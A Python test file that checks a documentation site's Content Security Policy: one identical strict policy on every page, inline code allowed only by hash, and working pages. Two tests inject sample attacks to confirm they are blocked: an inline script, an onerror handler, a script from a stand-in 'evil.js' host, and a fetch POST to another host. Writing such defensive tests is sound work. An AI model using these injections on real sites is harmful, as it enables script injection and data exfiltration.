"""docs/_ext/policy.py: under the policy every page works, and nothing that is not ours runs."""

import re
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from playwright.sync_api import expect

from tests.browser.conftest import DESKTOP, PHONE
from tests.docs.conftest import ROOT
from tests.docs.extensions import load

policy = load("policy")
# Before any script of the page: keep what the policy forbids.
LISTEN = """
window.forbidden = [];
document.addEventListener("securitypolicyviolation", (event) => {
  forbidden.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`);
});
"""


def pages(site_folder) -> list[str]:
    return sorted(file.relative_to(site_folder).as_posix() for file in site_folder.rglob("*.html"))


def policies(site_folder) -> dict[str, str]:
    """The policy in each page."""
    found = {}
    for name in pages(site_folder):
        soup = BeautifulSoup((site_folder / name).read_bytes(), "html.parser")
        [meta] = soup.find_all("meta", {"http-equiv": "Content-Security-Policy"})
        found[name] = meta["content"]
    return found


def heard(page, text: str) -> None:
    if not text.startswith("Changed to "):  # the theme says so when its button is pressed
        page.complaints.append(text)


@pytest.fixture
def visit(browser, site_url):
    """Opens a page with a listener for what the policy forbids."""
    contexts = []

    def visit(path: str, viewport=DESKTOP):
        context = browser.new_context(viewport=viewport)
        contexts.append(context)
        context.add_init_script(LISTEN)
        page = context.new_page()
        page.complaints = []
        page.on("console", lambda message: heard(page, message.text))
        page.goto(f"{site_url}/{path}")
        return page

    yield visit
    for context in contexts:
        context.close()


def test_every_page_has_the_same_policy_before_anything_that_loads(site_folder):
    assert len(set(policies(site_folder).values())) == 1
    for name in pages(site_folder):
        soup = BeautifulSoup((site_folder / name).read_bytes(), "html.parser")
        first = soup.find(["script", "style", "link", "img", "base"])
        meta = soup.find("meta", {"http-equiv": "Content-Security-Policy"})
        assert meta.sourceline < first.sourceline or meta in first.find_all_previous("meta"), name
        assert first.find_parent("head"), name


def test_the_policy_allows_no_inline_code_but_by_its_hash_and_no_other_host(site_folder):
    text = policies(site_folder)["index.html"]
    assert "unsafe" not in text and "http" not in text and "*" not in text
    rules = dict(rule.split(" ", 1) for rule in text.split("; "))
    assert rules["default-src"] == rules["base-uri"] == "'none'"
    assert rules["script-src"].startswith("'self' 'sha256-")


def test_every_inline_script_and_style_is_known_and_there_are_no_style_attributes(site_folder):
    text = policies(site_folder)["index.html"]
    used = set()
    for name in pages(site_folder):
        soup = BeautifulSoup((site_folder / name).read_bytes(), "html.parser")
        inline = [tag.string for tag in soup.find_all(["script", "style"]) if not tag.get("src")]
        used |= {policy.source(each) for each in inline}
        assert soup.find_all(style=True) == [], name
        handlers = [(tag.name, key) for tag in soup.find_all(True) for key in tag.attrs if key.startswith("on")]
        assert handlers == [], name
    assert used == set(re.findall(r"'sha256-[^']+'", text)), "a hash is missing, or nothing needs it any more"


@pytest.mark.parametrize("viewport", [PHONE, DESKTOP], ids=["phone", "desktop"])
def test_no_page_does_anything_that_the_policy_forbids(visit, site_folder, viewport):
    for name in pages(site_folder):
        page = visit(name, viewport)
        for theme in page.locator("button.theme-toggle:visible").all():
            theme.click()
        for tab in page.get_by_role("tab").all()[:3]:
            tab.click()
        for button in page.locator("button.copy:visible").all()[:1]:
            button.click()
        assert page.evaluate("forbidden") == [], name
        assert page.complaints == [], name


def test_the_search_finds_pages_and_shows_parts_of_them(visit):
    page = visit("search.html?q=bootstrap")
    expect(page.locator("#search-results li").first).to_be_visible()
    expect(page.locator("#search-results p.context").first).to_contain_text(re.compile("bootstrap", re.IGNORECASE))
    assert page.evaluate("forbidden") == []


def test_an_injected_script_does_not_run(visit):
    page = visit("index.html")
    page.evaluate(
        """() => {
          const script = document.createElement("script");
          script.textContent = "window.stolen = 1";
          document.body.append(script);
          const holder = document.createElement("div");
          holder.innerHTML = '<img src="missing.png" onerror="window.stolen = 2"><p style="color: red">red</p>';
          document.body.append(holder);
          const other = document.createElement("script");
          other.src = "http://other.example/evil.js";
          document.body.append(other);
        }"""
    )
    page.wait_for_function("forbidden.length >= 4")
    kinds = {found.split(" ")[0] for found in page.evaluate("forbidden")}
    assert kinds == {"script-src-elem", "script-src-attr", "style-src-attr"}
    assert page.evaluate("window.stolen") is None


def test_nothing_can_be_sent_to_another_host(visit):
    page = visit("index.html")
    sent = page.evaluate(
        "fetch('http://other.example/', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'refused')"
    )
    assert sent == "refused"
    assert [found.split(" ")[0] for found in page.evaluate("forbidden")] == ["connect-src"]


def test_the_pages_work_when_they_are_opened_as_files(browser, site_folder):
    context = browser.new_context()
    context.add_init_script(LISTEN)
    page = context.new_page()
    page.goto(Path(site_folder / "docs" / "produce-consume.html").as_uri())
    page.get_by_role("tab", name="SASL").first.click()
    expect(page.locator("[role=tabpanel][data-label=SASL]").first).to_be_visible()
    assert page.evaluate("forbidden") == []
    context.close()


def test_the_readme_has_the_headers_for_a_host(site_folder):
    readme = (ROOT / "README.md").read_text()
    for name, value in policy.HEADERS.items():
        line = f"{name}: {value.format(policy=policies(site_folder)['index.html'])}"
        assert f"    {line}\n" in readme, f"README.md lacks the line\n    {line}"
